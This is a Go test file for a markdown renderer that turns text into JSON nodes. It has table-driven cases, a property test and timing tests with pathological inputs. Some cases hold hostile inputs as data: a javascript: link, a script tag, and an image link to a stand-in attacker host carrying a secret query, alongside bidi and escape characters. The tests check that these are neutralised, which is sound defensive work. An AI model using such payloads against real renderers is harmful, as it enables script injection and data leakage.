package web

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"
)

func TestMarkdown(t *testing.T) {
	for name, c := range map[string]struct{ in, want string }{
		"plain":          {"hello\nyou", `[{"k":"p","spans":[{"t":"hello\nyou"}]}]`},
		"marks":          {"a **b *c*** `d*` ~~e~~ f_g_h _i_", `[{"k":"p","spans":[{"t":"a "},{"k":"b","s":[{"t":"b "},{"k":"i","s":[{"t":"c"}]}]},{"t":" "},{"k":"c","t":"d*"},{"t":" "},{"k":"s","s":[{"t":"e"}]},{"t":" f_g_h "},{"k":"i","s":[{"t":"i"}]}]}]`},
		"open":           {"a **b and `c", "[{\"k\":\"p\",\"spans\":[{\"t\":\"a **b and `c\"}]}]"},
		"products":       {"2 * 3 * 4", `[{"k":"p","spans":[{"t":"2 * 3 * 4"}]}]`},
		"escapes":        {`\*no\* \[x](y)`, `[{"k":"p","spans":[{"t":"*no* [x](y)"}]}]`},
		"link":           {"[the *site*](https://x.example/a_(b)?c \"title\")!", `[{"k":"p","spans":[{"k":"a","s":[{"t":"the "},{"k":"i","s":[{"t":"site"}]}],"u":"https://x.example/a_(b)?c"},{"t":"!"}]}]`},
		"javascript":     {"[x](javascript:alert(1))", `[{"k":"p","spans":[{"k":"a","s":[{"t":"x"}],"u":"javascript:alert(1)"}]}]`},
		"image":          {"![a](https://evil.example/?q=secret)", `[{"k":"p","spans":[{"k":"a","s":[{"t":"image "},{"t":"a"}],"u":"https://evil.example/?q=secret"}]}]`},
		"autolink":       {"<https://x.example> <b>", `[{"k":"p","spans":[{"k":"a","u":"https://x.example"},{"t":" \u003cb\u003e"}]}]`},
		"html":           {"<script>alert(1)</script>", `[{"k":"p","spans":[{"t":"\u003cscript\u003ealert(1)\u003c/script\u003e"}]}]`},
		"heading":        {"## Two ##\ntext", `[{"k":"h","level":2,"spans":[{"t":"Two"}]},{"k":"p","spans":[{"t":"text"}]}]`},
		"code":           {"```go x\na := *b*\n\n<p>\n```\nafter", `[{"k":"pre","text":"a := *b*\n\n\u003cp\u003e","lang":"go"},{"k":"p","spans":[{"t":"after"}]}]`},
		"open code":      {"```\nabc", `[{"k":"pre","text":"abc"}]`},
		"list":           {"- a\n- b\n  more\n  1. c\n- d\n\nend", `[{"k":"ul","items":[[{"k":"p","spans":[{"t":"a"}]}],[{"k":"p","spans":[{"t":"b\nmore"}]},{"k":"ol","level":1,"items":[[{"k":"p","spans":[{"t":"c"}]}]]}],[{"k":"p","spans":[{"t":"d"}]}]]},{"k":"p","spans":[{"t":"end"}]}]`},
		"loose":          {"3. a\n\n4. b", `[{"k":"ol","level":3,"items":[[{"k":"p","spans":[{"t":"a"}]}],[{"k":"p","spans":[{"t":"b"}]}]]}]`},
		"code in a list": {"1. do\n   ```\n   x\n   ```\n2. then", `[{"k":"ol","level":1,"items":[[{"k":"p","spans":[{"t":"do"}]},{"k":"pre","text":"x"}],[{"k":"p","spans":[{"t":"then"}]}]]}]`},
		"quote":          {"> a\n> - b\n\nc", `[{"k":"quote","items":[[{"k":"p","spans":[{"t":"a"}]},{"k":"ul","items":[[{"k":"p","spans":[{"t":"b"}]}]]}]]},{"k":"p","spans":[{"t":"c"}]}]`},
		"rule":           {"a\n\n---\nb", `[{"k":"p","spans":[{"t":"a"}]},{"k":"hr"},{"k":"p","spans":[{"t":"b"}]}]`},
		"table":          {"| a | b |\n|---|:-:|\n| 1 | x\\|y | z |\n", `[{"k":"table","rows":[[[{"t":"a"}],[{"t":"b"}]],[[{"t":"1"}],[{"t":"x|y"}]]]}]`},
		"invisible":      {"a\u202eb\x1b[31mc\u200b", `[{"k":"p","spans":[{"t":"abc"}]}]`},
	} {
		got, err := json.Marshal(markdown(c.in))
		if err != nil || string(got) != c.want {
			t.Errorf("%s:\n%s\nwant\n%s", name, got, c.want)
		}
	}
}

// words is all text of nodes.
func words(ns []node) string {
	var b strings.Builder
	var spans func([]span)
	spans = func(all []span) {
		for _, s := range all {
			b.WriteString(s.Text)
			spans(s.Spans)
			b.WriteString(s.URL)
		}
	}
	for _, n := range ns {
		b.WriteString(n.Text + n.Lang)
		spans(n.Spans)
		for _, it := range n.Items {
			b.WriteString(words(it))
		}
		for _, r := range n.Rows {
			for _, c := range r {
				spans(c)
			}
		}
	}
	return b.String()
}

// Whatever a model writes, reading it ends soon and no letter is lost.
func TestMarkdown_KeepsEveryLetter(t *testing.T) {
	piece := rapid.SampledFrom([]string{"a", "b1", " ", "\n", "\n\n", "*", "**", "_", "`", "\n```\n", "- ", "\n- ", "  ", "1. ", "> ", "# ", "[", "]", "(", ")", "![", "~~x", "\\", "<", ">", "é", "\t"})
	letters := func(s string) string {
		return strings.Map(func(r rune) rune {
			if r == 'a' || r == 'b' || r == 'é' {
				return r
			}
			return -1
		}, s)
	}
	rapid.Check(t, func(t *rapid.T) {
		in := strings.Join(rapid.SliceOfN(piece, 0, 60).Draw(t, "pieces"), "")
		if strings.Contains(in, "](") { // a link's title is left out
			return
		}
		if got := letters(words(markdown(in))); got != letters(in) {
			t.Fatalf("%q became %q", in, got)
		}
	})
}

func TestMarkdown_HostileLengths(t *testing.T) {
	for _, p := range []string{"*a", "**a ", "_a", "`a", "[", "![", "[a](", "> ", "- ", "  - a\n", "|", "<", "\\", "~~", "#", "> - ", "*a*b", "``` "} {
		began := time.Now()
		markdown(strings.Repeat(p, 60_000/len(p)))
		if d := time.Since(began); d > time.Second {
			t.Errorf("%q takes %v", p, d)
		}
	}
}
